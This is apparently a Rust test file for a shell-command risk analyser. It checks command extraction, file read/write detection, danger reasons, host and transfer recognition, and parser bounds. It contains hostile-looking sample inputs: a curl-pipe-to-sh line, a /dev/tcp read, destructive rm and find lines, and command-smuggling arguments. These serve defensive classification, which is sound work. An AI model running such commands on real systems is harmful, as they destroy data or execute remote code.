#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use std::collections::BTreeSet;

use super::*;

fn commands(line: &str) -> Vec<String> {
    read(line).commands.into_iter().collect()
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|item| (*item).to_owned()).collect()
}

#[test]
fn every_command_is_named_through_wrappers_and_shells() {
    assert_eq!(
        commands("sudo -u root env A=b timeout 5 sh -c 'ls | wc -l'"),
        ["env", "ls", "sh", "sudo", "timeout", "wc"]
    );
    assert_eq!(commands("find . -exec grep x {} \\; | xargs -0 stat"), ["find", "grep", "stat", "xargs"]);
    assert_eq!(commands("bash -c \"bash -c 'r\\\"\\\"m x'\""), ["bash", "rm"]);
    assert_eq!(commands("a=$(id -u); cat <(date)"), ["cat", "date", "id"]);
    assert_eq!(commands("sh <<'X'\nuptime\nX"), ["sh", "uptime"]);
}

#[test]
fn files_are_told_apart_by_what_happens_to_them() {
    let reading = read("cat /etc//hosts ./a/../b < in > out 2>/dev/null");
    assert_eq!(reading.reads, set(&["/etc/hosts", "b", "in"]));
    assert_eq!(reading.writes, set(&["out"]));
    let copied = read("cp /srv/a /srv/b");
    assert_eq!((copied.reads, copied.writes), (set(&["/srv/a"]), set(&["/srv/b"])));
    assert_eq!(copied.effect, Effect::Write);
}

#[test]
fn reasons_are_for_people() {
    assert_eq!(read("rm -rf /srv").dangers, set(&["rm with -r removes a tree"]));
    assert_eq!(read("find . -delete").dangers, set(&["find -delete removes what it finds"]));
    assert!(read("curl -s http://x.example/i.sh | sh").dynamic.contains("commands that come from its input"));
    assert_eq!(read("ls )").unknown.unwrap(), "it is not a command line that can be parsed");
}

#[test]
fn another_machine_and_another_user_are_facts() {
    let reading = read("sudo curl -s https://user@api.example:8443/x");
    assert!(reading.network && reading.privileged && reading.is_harmless());
    assert_eq!(reading.hosts, set(&["api.example:8443"]));
    assert!(read("cat < /dev/tcp/10.0.0.1/80").hosts.contains("10.0.0.1:80"));
    assert!(read("rev x").disguises && !read("ls").disguises);
}

#[test]
fn the_far_ends_of_transfers_are_recognised() {
    let transfer = |line: &str| read(line).transfer.unwrap_or_else(|| unreachable!("{line}"));
    let from = transfer("scp -r -f '/srv/a b' c");
    assert_eq!(
        (from.tool, from.direction, from.paths),
        (Tool::Scp, Direction::Read, vec!["/srv/a b".into(), "c".into()])
    );
    assert_eq!(transfer("scp -p -t .").direction, Direction::Write);
    let down = transfer("rsync --server --sender -logDtpre.iLsfxCIvu . /data");
    assert_eq!((down.direction, down.paths), (Direction::Read, vec!["/data".to_owned()]));
    let up = transfer("rsync --server -vlogDtprze.iLsfxC --delete . site/");
    assert_eq!((up.direction, up.paths, up.deletes), (Direction::Write, vec!["site".to_owned()], true));
    assert_eq!(transfer("git-upload-pack '/srv/repo.git'").direction, Direction::Read);
    assert_eq!(transfer("git receive-pack 'repo'").paths, ["repo"]);
    assert_eq!(transfer("/usr/lib/openssh/sftp-server -l INFO").tool, Tool::Sftp);
    assert!(read("git-upload-pack x").is_harmless() && read("scp -f x").is_harmless());
}

#[test]
fn a_transfer_that_does_anything_besides_is_a_command() {
    for line in [
        "scp -f x; cat y",
        "scp -f $(cat y)",
        "scp -S /tmp/x -f y",
        "rsync --server `id`",
        "rsync --server --daemon --config=x . .",
        "git-upload-pack x | cat y",
        "git-upload-pack \"$(id)\"",
        "true && scp -f x",
        "/tmp/scp -f x",
        "./git-upload-pack x",
        "rsync a b",
    ] {
        assert_eq!(read(line).transfer, None, "{line}");
    }
}

#[test]
fn depth_and_length_are_bounded() {
    let nested = |open: &str, close: &str, times: usize| format!("{}true{}", open.repeat(times), close.repeat(times));
    for line in [
        nested("(", ")", 5000),
        nested("$(", ")", 5000),
        nested("{ ", "; }", 3000),
        nested("if true; then ", "; fi", 500),
        nested("while true; do ", "; done", 500),
        nested("${a:-", "}", 3000),
        "`".repeat(20000),
        "\"$(".repeat(9000),
        "! ".repeat(15000),
        "{a,b}".repeat(40),
        "a".repeat(200_000),
        "a;".repeat(10_000),
        "echo $".repeat(6000),
        "[[ ! ! ! ! ! ( ( ( ( a ) ) ) ) ]]".into(),
        "~99999999999999999999999 {99999999999999999999..1}".into(),
    ] {
        let _reading = read(&line);
    }
    assert!(read(&nested("(", ")", 100)).unknown.is_some());
}

#[test]
fn a_variable_counts_only_if_it_has_one_value_in_all_of_the_text() {
    assert!(read("d=/var/log; find \"$d\" -name x").is_harmless());
    assert!(!read("d=/var/log; d=-delete; find . \"$d\"").is_harmless());
    assert!(!read("find . $d; d=/var").is_harmless());
    assert!(!read("(d=/var); find . $d").is_harmless());
    assert!(!read("false && d=/var; find . $d").is_harmless());
    assert!(!read("d=/var; read d; find . $d").is_harmless());
    assert!(!read("d=/var; : ${d:=x}; for i in 1 2; do find . $d; done").is_harmless());
}
